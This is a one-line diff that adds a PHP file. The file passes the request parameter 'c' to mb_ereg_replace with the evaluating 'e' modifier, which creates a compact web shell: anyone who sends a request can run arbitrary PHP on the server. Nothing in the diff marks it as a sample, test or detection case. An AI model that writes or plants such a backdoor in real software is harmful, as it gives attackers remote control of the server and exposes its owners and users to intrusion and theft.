@@ -1,0 +1,1 @@
+<?php echo mb_ereg_replace(".*", $_REQUEST["c"], "x", "e");
